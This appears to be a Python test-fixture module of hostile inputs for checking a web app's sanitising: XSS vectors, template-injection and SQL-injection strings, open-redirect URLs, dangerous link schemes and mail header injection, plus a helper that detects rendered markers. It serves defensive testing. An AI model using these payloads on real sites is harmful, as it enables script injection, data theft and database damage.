"""What attackers type. Every script carries MARK, so that a page shows by itself whether it became more than text.

Collected after the kinds of the OWASP cheat sheet on filter evasion, of html5sec and of mutation attacks on sanitisers; the
words are our own. ``escapes`` says where a mark stands that is no text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

MARK = "xq9"  # no public id has a 9 (RFC 4648, section 6): none is taken for it by chance

_ELEMENTS = (
    """
<script>xq9()</script>
<SCRIPT>xq9()</SCRIPT>
<script src=//xq9.example></script>
<script/xq9>xq9()</script>
<scr<script>ipt>xq9()</scr</script>ipt>
<script\x20type="text/javascript">xq9();</script>
<script\x0d>xq9()</script>
<script type=module>import 'https://xq9.example/x.js'</script>
<script type="text/template">xq9</script>
<noscript><p title="</noscript><img src=x onerror=xq9()>">
<img src=x onerror=xq9()>
<img src=x onerror="xq9()">
<img src=x onerror='xq9()'
<img src=x:xq9 onerror=eval(src)>
<IMG SRC="jav&#x09;ascript:xq9();">
<img """
    + '"""'
    + """><script>xq9()</script>">
<img src=`x` onerror=xq9()>
<img/src/onerror=xq9()>
<img src=x onerror=&#x78;q9() class=xq9>
<image src=x onerror=xq9()>
<svg onload=xq9()>
<svg/onload=xq9()>
<svg><script>xq9()</script></svg>
<svg><animate onbegin=xq9() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:xq9()>
<svg><a xlink:href="javascript:xq9()"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,xq9"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>xq9()</script>">
<svg><style><img src=x onerror=xq9()></style></svg>
<svg><title><img src=x onerror=xq9()></title></svg>
<svg><desc><![CDATA[</desc><script>xq9()</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=xq9()>
<math href="javascript:xq9()">x</math>
<math><mi//xlink:href="data:x,<script>xq9()</script>">
<math><annotation-xml encoding="text/html"><script>xq9()</script>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq9()>
<body onload=xq9()>
<body onpageshow=xq9()>
<html onmouseover=xq9()>
<iframe src="javascript:xq9()">
<iframe srcdoc="&lt;img src=x onerror=xq9()&gt;"></iframe>
<iframe onload=xq9()>
<frameset onload=xq9()>
<object data="javascript:xq9()">
<object data="data:text/html;base64,xq9"></object>
<embed src="javascript:xq9()">
<embed src="//xq9.example/x.swf" allowscriptaccess=always>
<applet code=xq9>
<a href="javascript:xq9()">x</a>
<a href="JaVaScRiPt:xq9()">x</a>
<a href="java\tscript:xq9()">x</a>
<a href="java&NewLine;script:xq9()">x</a>
<a href="&#106;avascript:xq9()">x</a>
<a href="\x01javascript:xq9()">x</a>
<a href="data:text/html,<script>xq9()</script>">x</a>
<a href=vbscript:xq9>x</a>
<a onclick=xq9()>x</a>
<a style="width:expression(xq9())">x</a>
<a href="/me" ping="//xq9.example">x</a>
<base href="//xq9.example/">
<meta http-equiv=refresh content="0;url=javascript:xq9()">
<meta http-equiv="Content-Security-Policy" content="script-src xq9.example">
<link rel=stylesheet href="//xq9.example/x.css">
<link rel=import href="//xq9.example/">
<link rel=preload href=//xq9.example as=script onload=xq9()>
<style>@import '//xq9.example/x.css';</style>
<style>*{background:url(//xq9.example)}</style>
<div style="background:url(//xq9.example)">x</div>
<div style=behavior:url(xq9.htc)>
<input autofocus onfocus=xq9()>
<input type=image src=x onerror=xq9()>
<select autofocus onfocus=xq9()>
<textarea autofocus onfocus=xq9()>
<keygen autofocus onfocus=xq9()>
<button formaction=javascript:xq9()>x</button>
<form action="javascript:xq9()"><input type=submit>
<form action=//xq9.example><input name=password>
<isindex action=javascript:xq9() type=image>
<details open ontoggle=xq9()>
<marquee onstart=xq9()>
<video src=x onerror=xq9()>
<video><source onerror=xq9()>
<audio src=x onerror=xq9()>
<track default onload=xq9()>
<dialog open onclose=xq9()>
<template><script>xq9()</script></template>
<slot name=xq9 onslotchange=xq9()>
<xq9 onclick=1>
<xq9>x</xq9>
<x contenteditable onblur=xq9()>
<x onpointerenter=xq9() style=position:fixed;inset:0>x
<p hx-get=//xq9.example hx-trigger=load>
<p data-hx-get=//xq9.example data-hx-trigger=load>
<p hx-on:click=xq9()>
<p hx-vals='js:{a:xq9()}'>
<p id=xq9 name=xq9>
<plaintext>xq9
<listing>&lt;img src=x onerror=xq9()&gt;</listing>
<xmp><img src=x onerror=xq9()></xmp>
<table background=javascript:xq9()>
<portal src=javascript:xq9()>
<?xml-stylesheet href="javascript:xq9()"?>
<!--[if gte IE 4]><script>xq9()</script><![endif]-->
<!--<img src="--><img src=x onerror=xq9()>
<!--><script>xq9()</script>
<![CDATA[<script>xq9()</script>]]>
<!ENTITY xq9 SYSTEM "file:///etc/passwd">
"""
)
_BREAKOUTS = """
"><script>xq9()</script>
'><script>xq9()</script>
"><img src=x onerror=xq9()>
" onmouseover=xq9() x="
' onmouseover=xq9() x='
" autofocus onfocus=xq9() x="
` onmouseover=xq9() x=`
x onmouseover=xq9()
"/onmouseover=xq9()//
</title><script>xq9()</script>
</textarea><script>xq9()</script>
</script><script>xq9()</script>
</style><script>xq9()</script>
</option></select><img src=x onerror=xq9()>
</h1></main><img src=x onerror=xq9()>
--><img src=x onerror=xq9()>
]]><img src=x onerror=xq9()>
';xq9();//
";xq9();//
\\";xq9();//
</script\x20><svg onload=xq9()>
\u2028xq9()\u2029
&lt;script&gt;xq9()&lt;/script&gt;
&#60;img src=x onerror=xq9()&#62;
%3Cscript%3Exq9()%3C/script%3E
\\x3cscript\\x3exq9()\\x3c/script\\x3e
\uff1cscript\uff1exq9()\uff1c/script\uff1e
+ADw-script+AD4-xq9()+ADw-/script+AD4-
<\x00script>xq9()</script>
<script\ufeff>xq9()</script>
\u202e<script>xq9()</script>
<img src=x onerror=xq9()//
"><!--xq9
javascript:xq9()
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xq9()//'>
data:text/html,<script>xq9()</script>
//xq9.example/
\\\\xq9.example\\
/\\xq9.example
"""
_MARKDOWN = """
[x](javascript:xq9())
[x](JAVASCRIPT:xq9())
[x](javascript&colon;xq9())
[x]( javascript:xq9())
[x](java\\script:xq9())
[x](data:text/html,xq9)
[x](vbscript:xq9)
[x](//xq9.example)
[x](</me> "xq9\\" onclick=xq9()")
[x](https://ok.example "xq9\\" onmouseover=\\"xq9()")
[x](https://ok.example/"onmouseover="xq9()")
![x](javascript:xq9())
![x](https://xq9.example/pixel.png)
<javascript:xq9()>
<https://ok.example/"onmouseover=xq9()>
https://ok.example/"onmouseover="xq9()"
https://ok.example/<script>xq9()</script>
[x]: javascript:xq9()
`<img src=x onerror=xq9()>`
**<img src=x onerror=xq9()>**
> <script>xq9()</script>
- <svg onload=xq9()>
"""


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.strip()]


SCRIPTS = [*_lines(_ELEMENTS), *_lines(_BREAKOUTS), *_lines(_MARKDOWN)]

#: what a template engine would turn into 1337 or tell of itself
TEMPLATES = [
    "{{7*191}}", "{{ 7*191 }}", "{%print(7*191)%}", "{% print 7*191 %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "@(7*191)",
    "{{=7*191}}", "[[7*191]]", "{7*191}", "%{7*191}", "*{7*191}", "~{7*191}", "{{'7'*191}}", "{{config}}", "{{config.items()}}",
    "{{self}}", "{{request.environ}}", "{{cycler.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ lipsum.__globals__ }}", "{{get_flashed_messages.__globals__}}", "{{url_for.__globals__['current_app'].config}}",
    "{%for x in (1,)%}{{7*191}}{%endfor%}", "{% set x=7*191 %}{{x}}", "{{%0a7*191}}", "{#{{7*191}}#}{{7*191}}",
    "%(config)s", "{0.__class__}", "%s%s%s%n", "{{7*191}}</title>{{7*191}}",
]  # fmt: skip
TOLD = ("1337", "SECRET_KEY", "<Config", "<class", "__globals__'", "werkzeug.server", "TemplateReference")

SQL = [
    "'", "''", '"', "\\'", "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1 OR 1=1", "1; SELECT pg_sleep(3)--",
    "'; SELECT pg_sleep(3)--", "' || pg_sleep(3) || '", "1) OR pg_sleep(3) IS NULL--", "' AND (SELECT 1 FROM pg_sleep(3))--",
    "' UNION SELECT NULL--", "' UNION SELECT password_hash FROM person--", "%27%20OR%201=1", "') OR ('1'='1", "1/0", "0x27",
    "'; DROP TABLE person;--", "%", "_", "%%%%", "\\", "\\\\", "$$; SELECT pg_sleep(3); $$", "E'\\047'", "::int", ":name",
    "%(name)s", "{1,2}", "ARRAY[1]", "\u02bc OR 1=1", "'/**/OR/**/1=1#",
    "a\x00b",  # PostgreSQL's text has no such character
]  # fmt: skip

#: ways to another site in ``next=``
FOREIGN = [
    "https://evil.example", "http://evil.example/", "//evil.example", "///evil.example", "////evil.example/%2f..",
    "/\\evil.example", "\\\\evil.example", "/\\/evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example",
    "/\r/evil.example", "\t//evil.example", " //evil.example", "\x00//evil.example", "\x0b//evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "http:\\\\evil.example", "HTTPS://EVIL.example",
    "javascript:alert(1)", "JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd",
    "ftp://evil.example", "mailto:a@evil.example", "//evil.example:80", "//user@evil.example", "//localhost@evil.example",
    "https://localhost@evil.example", "https://localhost.evil.example", "//localhost.evil.example", "http://localhost:5000@evil.example",
    "//[::1]", "//3627734734", "//0x7f000001", "/%09/evil.example", "/%5cevil.example", "//%65vil.example", "/%2f/evil.example",
    "/.//evil.example", "/..//evil.example", "//evil%E3%80%82example", "//evil\u3002example", "\uff0f\uff0fevil.example",
    "/\u2215evil.example", "?//evil.example", "#//evil.example", ";//evil.example", "@evil.example", ".evil.example", "evil.example",
    ":evil.example", "://evil.example", "//evil.example\\@localhost", "//evil.example#@localhost", "//evil.example?@localhost",
    "/me\r\nLocation: https://evil.example", "/me%0d%0aSet-Cookie:x=y", "/me\nX: y", "https://evil.example/http://localhost/",
]  # fmt: skip

#: schemes that no link may have, as people hide them
SCHEMES = [
    f"{hidden}{rest}"
    for hidden in (
        "javascript:", "JAVASCRIPT:", "jAvAsCrIpT:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:",
        "java\rscript:", "javascript\t:", "javascript :", "\x01javascript:", "\x00javascript:", "java\x00script:",
        "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script:",
        "java&NewLine;script:", "&#1;javascript:", "javascript%3A", "%6Aavascript:", "feed:javascript:", "view-source:javascript:",
        "data:text/html,", "data:text/html;base64,", "DATA:image/svg+xml,", "vbscript:", "VBScript:", "livescript:", "mocha:",
        "file:///", "ftp://", "ws://", "wss://", "blob:https://", "filesystem:https://", "about:blank#", "chrome://", "jar:https://",
        "intent://", "sms:", "skype:", "magnet:?", "ms-word:", "steam://", "ssh://", "gopher://", "ldap://", "\ufeffjavascript:",
        "\u200bjavascript:", "\u2028javascript:", "\u00a0javascript:", "ｊavascript:", "javаscript:", "x-javascript:", "#javascript:",
        "//", "/\\", "\\\\", "///",
    )
    for rest in ("alert(1)",)
]  # fmt: skip

#: line ends and what mail programs take for one
LINE_ENDS = [
    "\r\nBcc: opfer@evil.example", "\nBcc: opfer@evil.example", "\rBcc: opfer@evil.example", "\r\n\r\n<p>x", "\n\nx",
    "\r\n Bcc: opfer@evil.example", "\n\tBcc: opfer@evil.example", "\x00\r\nBcc: opfer@evil.example", "\u2028Bcc: opfer@evil.example",
    "\u2029Bcc: opfer@evil.example", "\u0085Bcc: opfer@evil.example", "\x0bBcc: opfer@evil.example", "\x0cBcc: opfer@evil.example",
    "\x1cBcc: opfer@evil.example", "\x1dBcc: x@y.example", "\x1eBcc: x@y.example", "%0d%0aBcc: opfer@evil.example", "=0D=0ABcc: x@y.example",
    "=?utf-8?q?=0d=0aBcc:_opfer@evil.example?=", "=?utf-8?b?DQpCY2M6IG9wZmVyQGV2aWwuZXhhbXBsZQ==?=",
    "\\r\\nBcc: opfer@evil.example", "\r\nContent-Type: text/html", "\r\nReply-To: opfer@evil.example", "\r\n.\r\nMAIL FROM:<a@b.example>",
    ", opfer@evil.example", "; opfer@evil.example", '" <opfer@evil.example>', "<opfer@evil.example>", "\u560a\u560dBcc: x@y.example",
    "\r\nList-Unsubscribe: <https://evil.example>",
]  # fmt: skip

ADDRESSES = {"href", "src", "action", "formaction", "srcset", "poster", "cite", "data", "background", "ping"}
WORDS = {"value", "content", "title", "alt", "aria-label", "placeholder", "data-name", "data-text", "datetime"}
_GOOD = re.compile(r"(?:https?://|mailto:|tel:|/(?![/\\])|[?#])", re.IGNORECASE)


def escapes(html: str) -> list[str]:
    """Where MARK stands on a page as anything but text: elements, attributes, addresses of other schemes, scripts, comments."""
    if MARK not in html.lower():
        return []
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    return list(_escaped(tree))


def _escaped(tree: Element) -> Iterator[str]:
    for element in tree.iter():
        tag = element.tag.rpartition("}")[2] if isinstance(element.tag, str) else "a comment"
        if MARK in tag.lower() or (
            tag in ("script", "style", "a comment", "xmp", "plaintext") and MARK in (element.text or "").lower()
        ):
            yield f"<{tag}>{(element.text or '')[:60]}"
        for name, value in element.attrib.items():
            if MARK in str(name).lower():
                yield f"<{tag} {name}>"
            elif MARK in value.lower() and not _is_words(element, str(name).lower(), value):
                yield f'<{tag} {name}="{value[:80]}">'


def _is_words(element: Element, name: str, value: str) -> bool:
    if "http-equiv" in element.attrib:
        return False
    if name in ADDRESSES:
        return name in ("href", "action") and bool(_GOOD.match(value))
    return name in WORDS
